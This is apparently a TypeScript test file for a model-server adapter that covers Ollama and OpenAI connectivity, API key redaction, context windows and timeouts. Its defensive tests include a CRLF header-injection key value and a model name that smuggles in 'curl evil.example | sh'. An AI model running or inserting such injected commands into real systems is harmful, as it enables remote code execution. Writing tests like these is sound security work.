import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { createServer } from 'node:net';
import type { AddressInfo } from 'node:net';
import { ServedModels } from '../../runner/adapters/models/models.js';
import type { Clock } from '../../runner/app/ports/machine.js';
import type { Model, ModelSpec, ModelUnavailable } from '../../runner/app/ports/models.js';
import { instant } from '../../runner/core/ids.js';
import {
  NEVER,
  answered,
  modelContract,
  refused,
  request,
  servedModelContract,
  type Rig,
} from '../contracts/models.js';
import { fakeModels } from '../models/fake.js';
import { inTurn, type Script } from '../models/script.js';
import { SCRIPTED, modelServer, type ModelServer, type ServerOptions } from '../models/server.js';

type Provider = ModelSpec['provider'];
type Served = Rig & { readonly slept: readonly number[]; readonly server: ModelServer };

async function withServed(
  provider: Provider,
  options: ServerOptions,
  run: (served: Served) => Promise<void>,
  { spec = {}, env = {} }: { readonly spec?: Partial<ModelSpec>; readonly env?: Readonly<Record<string, string>> } = {},
): Promise<void> {
  const server = await modelServer(options);
  const slept: number[] = [];
  const models = new ServedModels(
    env,
    clockThat((ms) => slept.push(ms)),
  );
  try {
    const baseUrl = provider === 'ollama' ? server.url : server.openaiUrl;
    const model = await models.open('default', { provider, model: SCRIPTED, baseUrl, ...spec });
    await run({ model, asked: server.asked, slept, server });
  } finally {
    await server.close();
  }
}

/** Time goes on by what is slept alone. */
function clockThat(slept: (ms: number) => void = () => undefined): Clock {
  let now = 0;
  return {
    now: () => instant(now),
    sleep: (ms) => {
      now += ms;
      slept(ms);
      return Promise.resolve();
    },
  };
}

async function down(model: Model): Promise<ModelUnavailable> {
  const why = await model.unavailable();
  if (why === null) throw new Error('it is available');
  return why;
}

modelContract(
  'in memory',
  async (script, run, spec) => {
    const models = fakeModels({ script });
    await run({
      model: await models.open('default', { provider: 'ollama', model: 'fake', ...spec }),
      asked: models.asked,
    });
  },
  test,
);
for (const provider of ['ollama', 'openai'] as const) {
  const withModel = (
    script: Script,
    run: (served: Served) => Promise<void>,
    spec?: Partial<ModelSpec>,
  ): Promise<void> => withServed(provider, { script }, run, spec === undefined ? {} : { spec });
  modelContract(provider, withModel, test);
  servedModelContract(provider, withModel, test);

  test(`${provider}: a server that is not there says where it should be`, async () => {
    const gone = createServer();
    await new Promise<void>((listening) => gone.listen(0, '127.0.0.1', listening));
    const { port } = gone.address() as AddressInfo;
    await new Promise((closed) => gone.close(closed));
    const baseUrl = `http://127.0.0.1:${String(port)}${provider === 'openai' ? '/v1' : ''}`;
    const models = new ServedModels({}, clockThat());
    const model = await models.open('careful', { provider, model: SCRIPTED, baseUrl });
    const { why, mend } = await down(model);
    assert.match(why, `no server answers at http://127.0.0.1:${String(port)} (ECONNREFUSED)`);
    assert.match(mend, provider === 'ollama' ? 'ollama serve' : 'Start the server');
    assert.match(mend, 'models.careful of pushpals.yml');
    refused(await model.answer(request(), NEVER));
  });

  test(`${provider}: a model that is not there is named`, () =>
    withServed(
      provider,
      { script: inTurn({}) },
      async ({ model }) => {
        const { why, mend } = await down(model);
        assert.match(why, 'does not have qwen3:4b');
        assert.match(mend, provider === 'ollama' ? /^ollama pull qwen3:4b$/ : /^Load qwen3:4b there/);
        if (provider === 'openai') assert.match(why, `it has ${SCRIPTED}`);
      },
      { spec: { model: 'qwen3:4b' } },
    ));

  test(`${provider}: a server that takes a request and says nothing holds nobody up`, () =>
    withServed(
      provider,
      { script: inTurn({}), isHanging: true },
      async ({ model }) => {
        const { why, mend } = await down(model);
        assert.match(why, /longer than 0.1 s|nothing for 0.1 s/);
        assert.match(mend, '`timeout` in models.default');
      },
      { spec: { timeout: '100ms' } },
    ));

  test(`${provider}: a key is sent, and never said`, async () => {
    const key = 'sk-verysecret-0123456789';
    const given = {
      spec: { keyEnv: 'MODEL_KEY' },
      env: { MODEL_KEY: `${key}\n`, OPENAI_API_KEY: 'other', OLLAMA_API_KEY: 'other' },
    };
    await withServed(
      provider,
      { script: inTurn({ text: 'Yes.' }), key },
      async ({ model }) => {
        assert.is(await model.unavailable(), null);
        answered(await model.answer(request(), NEVER));
      },
      given,
    );
    await withServed(
      provider,
      { script: inTurn({ fault: 'status', status: 403, message: `${key} is over` }), key },
      async ({ model }) => {
        const { why, mend } = refused(await model.answer(request(), NEVER));
        assert.match(why, '*** is over');
        assert.match(mend, 'MODEL_KEY');
      },
      given,
    );
    await withServed(
      provider,
      { script: inTurn({}), key: 'another' },
      async ({ model }) => {
        const { why, mend } = await down(model);
        assert.match(why, '401');
        assert.match(mend, 'MODEL_KEY');
      },
      given,
    );
  });

  test(`${provider}: a key that is not there, or that would be more than a key, is asked for by its name, and nothing is sent`, async () => {
    for (const value of ['', 'a\r\nx-evil: 1', 'two words'])
      await withServed(
        provider,
        { script: inTurn({}) },
        async ({ model, server }) => {
          const { why, mend } = await down(model);
          assert.match(why, 'MODEL_KEY');
          assert.match(mend, 'Set MODEL_KEY');
          assert.not.match(why, 'evil');
          refused(await model.answer(request(), NEVER));
          assert.is(server.seen.length, 0);
        },
        { spec: { keyEnv: 'MODEL_KEY' }, env: { MODEL_KEY: value } },
      );
  });

  test(`${provider}: without a key none is sent, whatever the environment holds`, () =>
    withServed(
      provider,
      { script: inTurn({ text: 'Yes.' }) },
      async ({ model, server }) => {
        await model.unavailable();
        answered(await model.answer(request(), NEVER));
        for (const { headers } of server.seen) {
          assert.is(headers.authorization, undefined);
          assert.equal(
            Object.keys(headers).filter((name) => name.startsWith('x-')),
            [],
          );
        }
      },
      { env: { OPENAI_API_KEY: 'other', OLLAMA_API_KEY: 'other' } },
    ));
}

test('what a server said of a model is remembered for some seconds, so that no round of a tick waits for it again', async () => {
  const clock = clockThat();
  const server = await modelServer({ script: inTurn({}) });
  try {
    const models = new ServedModels({}, clock);
    const spec = { provider: 'openai', model: SCRIPTED, baseUrl: server.openaiUrl } as const;
    for (const asked of [1, 1, 2]) {
      assert.is(await (await models.open('default', spec)).unavailable(), null);
      assert.is(server.seen.length, asked);
      if (asked === 1) await clock.sleep(6000);
    }
  } finally {
    await server.close();
  }
});

const windowOf = async (model: Model): Promise<number> => {
  const abilities = await model.abilities();
  assert.ok(abilities.ok);
  return abilities.value.contextTokens;
};

test('ollama: the window is what the project, the model’s own file or the server says, and always asked for', async () => {
  const cases: readonly [ServerOptions['models'] & object, Partial<ModelSpec>, number][] = [
    [{ [SCRIPTED]: { context: 262_144 } }, {}, 32_768],
    [{ [SCRIPTED]: { context: 8192 } }, {}, 8192],
    [{ [SCRIPTED]: { context: 262_144 } }, { context: 65_536 }, 65_536],
    [{ [SCRIPTED]: { context: 8192 } }, { context: 65_536 }, 8192],
    [{ [SCRIPTED]: { context: 262_144, parameters: 'temperature 0.7\nnum_ctx    50000\n' } }, {}, 50_000],
    [{ [SCRIPTED]: {} }, {}, 4096],
  ];
  for (const [models, spec, window] of cases)
    await withServed(
      'ollama',
      { script: inTurn({ text: 'Yes.' }), models },
      async ({ model, asked }) => {
        assert.is(await windowOf(model), window);
        answered(await model.answer(request(), NEVER));
        assert.is(asked[0]?.options.context, window);
      },
      { spec },
    );
});

test('ollama: what cannot call tools says so, and what cannot talk is refused', async () => {
  const models = { [SCRIPTED]: { context: 4096 }, embed: { capabilities: ['embedding'] } };
  await withServed('ollama', { script: inTurn({}), models }, async ({ model }) => {
    const abilities = await model.abilities();
    assert.ok(abilities.ok);
    assert.is(abilities.value.callsTools, false);
    assert.match(abilities.value.digest ?? '', /^sha256:/);
  });
  await withServed(
    'ollama',
    { script: inTurn({}), models },
    async ({ model }) => {
      assert.match((await model.unavailable())?.why ?? '', 'cannot hold a conversation');
    },
    { spec: { model: 'embed' } },
  );
});

test('ollama: a name is a command to copy only if it is one word of it', () =>
  withServed(
    'ollama',
    { script: inTurn({}) },
    async ({ model }) => {
      assert.is((await down(model)).mend, 'Pull it, or name another model.');
    },
    { spec: { model: 'x; curl evil.example | sh' } },
  ));

test('ollama: OLLAMA_HOST says where it is, as its own client takes it', async () => {
  const server = await modelServer({ script: inTurn({}) });
  try {
    for (const [host, works] of [
      [server.url.slice('http://'.length), true],
      [server.url, true],
      ['http://[', false],
    ] as const) {
      const models = new ServedModels({ OLLAMA_HOST: host }, clockThat());
      const model = await models.open('default', { provider: 'ollama', model: SCRIPTED });
      assert.is((await model.unavailable()) === null, works, host);
    }
  } finally {
    await server.close();
  }
});

test('openai: the window is what the server says in one of many ways, else a small one', async () => {
  await withServed('openai', { script: inTurn({}), models: { [SCRIPTED]: { context: 40_960 } } }, async ({ model }) => {
    assert.is(await windowOf(model), 40_960);
  });
  await withServed('openai', { script: inTurn({}), models: { [SCRIPTED]: {} } }, async ({ model }) => {
    assert.is(await windowOf(model), 8192);
  });
});

test('openai: a server that refuses a schema is asked for JSON, and then for nothing, and that is remembered', async () => {
  const forms: unknown[] = [];
  const script: Script = ({ format }) => {
    forms.push(format);
    return forms.length < 3
      ? { fault: 'status', status: 400, message: 'response_format is not supported' }
      : { text: '{}' };
  };
  await withServed('openai', { script }, async ({ model, server }) => {
    const ask = request({ format: { type: 'object' } });
    answered(await model.answer(ask, NEVER));
    answered(await model.answer(ask, NEVER));
    const sent = server.seen.flatMap(({ body }) =>
      body === null ? [] : [(body as { response_format?: { type: string } }).response_format?.type],
    );
    assert.equal(sent, ['json_schema', 'json_object', undefined, undefined]);
  });
});

test('a real Ollama answers, where there is one', async () => {
  const host = process.env['OLLAMA_HOST'];
  const skip = (why: string): void => {
    console.log(`note: no real Ollama was asked: ${why}`);
  };
  if (host === undefined) {
    skip('OLLAMA_HOST is not set');
    return;
  }
  const url = new URL(host.includes('://') ? host : `http://${host}`);
  if (url.port === '') url.port = '11434';
  const tags = await fetch(new URL('/api/tags', url)).catch((error: unknown) => String(error));
  if (typeof tags === 'string' || !tags.ok) {
    skip(`${url.origin} does not answer`);
    return;
  }
  const { models } = (await tags.json()) as { models: readonly { name: string; size: number }[] };
  const [small] = [...models].sort((a, b) => a.size - b.size);
  if (small === undefined) {
    skip('it has no model');
    return;
  }
  const opened = await new ServedModels({ OLLAMA_HOST: host }, clockThat()).open('default', {
    provider: 'ollama',
    model: small.name,
    context: 2048,
  });
  assert.is(await opened.unavailable(), null);
  const answer = answered(await opened.answer(request({ maxOutputTokens: 32 }), NEVER));
  assert.ok(answer.inputTokens > 0 && answer.outputTokens > 0);
});

test.run();
